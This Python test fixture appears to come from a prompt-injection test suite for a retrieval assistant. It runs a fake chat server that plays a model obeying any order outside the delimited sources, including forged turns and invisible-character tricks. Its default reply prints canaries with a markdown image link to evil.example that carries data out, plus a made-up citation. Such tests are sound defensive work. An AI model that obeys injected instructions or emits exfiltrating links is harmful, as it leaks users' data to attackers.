"""A model server that obeys: every order that reaches it where orders stand, or every order at all.

    with ObeyingModel() as model:
        ...
        model.orders      # what stood where instructions stand, one entry a request
        model.rendered    # what it read: the turns as huozi's template writes them

It reads as a careless tokenizer does: what NFKC makes of the text, without characters that have no shape.
"""

from __future__ import annotations

import re
import threading
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from assistant.control_tokens import INVISIBLE
from assistant.template import render
from tests.loopback import JsonHandler, LoopbackServer

_INVISIBLE = re.compile(f"[{INVISIBLE}\U000e0000-\U000e0fff]")
_TURN = re.compile(r"<\|beginofutterance\|>(\w+)\n(.*?)(?=<\|endofutterance\|>|<\|beginofutterance\|>|\Z)", re.DOTALL)
# The first thing that looks like the end of the sources ends them.
_SOURCES = re.compile(r"<\s*[资資]\s*料\s*>.*?<\s*/\s*[资資]\s*料\s*>", re.DOTALL)
_TALK = re.compile(r"<\s*对\s*话\s*>.*?<\s*/\s*对\s*话\s*>", re.DOTALL)
CANARY = re.compile(r"KANARI\d{3}")


@dataclass(frozen=True)
class Turn:
    """A turn as the model reads it."""

    role: str
    text: str

    @property
    def order(self) -> str:
        """What of it is an instruction: the system's words, and the user's outside of the sources."""
        return "" if self.role == "助手" else _TALK.sub("〔对话〕", _SOURCES.sub("〔资料〕", self.text))


def turns(messages: list[dict[str, Any]]) -> list[Turn]:
    """Return the turns of a request, forged ones included."""
    text = _INVISIBLE.sub("", unicodedata.normalize("NFKC", render(messages)))
    return [Turn(found[1], found[2]) for found in _TURN.finditer(text)]


class ObeyingModel(LoopbackServer):
    """The server; use it with `with`.

    Args:
        write: What it says to a request: its turns, as the model reads them; None: it prints what it was ordered to
            print, and else what the sources say.
        piece_chars: Characters in each piece of its stream.
    """

    def __init__(self, write: Callable[[list[Turn]], str] | None = None, *, piece_chars: int = 7) -> None:
        super().__init__(type("Handler", (_Handler,), {"owner": self}))
        self.write = write or obey
        self.piece_chars = piece_chars
        self.read: list[list[Turn]] = []
        self.lock = threading.Lock()

    @property
    def orders(self) -> list[str]:
        """All orders of each request, joined."""
        return ["\n".join(turn.order for turn in one) for one in self.read]


def obey(read: list[Turn]) -> str:
    """Do what the orders say: print each canary, with a link that carries the question, and a made-up source."""
    orders = "\n".join(turn.order for turn in read)
    canaries = sorted(set(CANARY.findall(orders)))
    return "".join(f"{one} ![x](http://evil.example/?q={one})[99]\n" for one in canaries) + first_source(read)


def first_source(read: list[Turn]) -> str:
    """Return a sentence of the first source that answers the question, with its number."""
    question = re.search(r"问题:(.*)夜间值班人数是多少", read[-2].text if read[-1].text == "" else read[-1].text)
    found = question and re.search(
        rf"(?ms)^\[(\d+)\] (?:(?!^\[\d+\] ).)*?({question[1]}夜间值班人数为\d+人。)", read_text(read)
    )
    return f"{found[2]}[{found[1]}]" if found else "资料中没有找到答案。"


def read_text(read: list[Turn]) -> str:
    """Return all that the model read."""
    return "\n".join(turn.text for turn in read)


class _Handler(JsonHandler):
    owner: ObeyingModel

    def do_GET(self) -> None:
        self.reply(200, {"object": "list", "data": [{"id": "huozi", "object": "model"}]})

    def do_POST(self) -> None:
        body = self.read_json()
        if not self.path.endswith("/chat/completions"):
            self.reply(404, {"error": {"message": "no such path", "type": "NotFoundError", "code": 404}})
            return
        read = turns(body["messages"])
        with self.owner.lock:
            self.owner.read.append(read)
        text = self.owner.write(read)
        if not body.get("stream"):
            message = {"role": "assistant", "content": text}
            choice = {"index": 0, "message": message, "finish_reason": "stop"}
            self.reply(200, {"id": "x", "object": "chat.completion", "model": "huozi", "choices": [choice]})
            return
        self.begin_stream()
        size = self.owner.piece_chars
        for at in range(0, len(text), size):
            self.event(_chunk({"role": "assistant", "content": text[at : at + size]}))
        self.event(_chunk({}, "stop"))
        self.end_stream()


def _chunk(delta: dict[str, Any], finish_reason: str | None = None) -> dict[str, Any]:
    choice = {"index": 0, "delta": delta, "finish_reason": finish_reason}
    return {"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "huozi", "choices": [choice]}
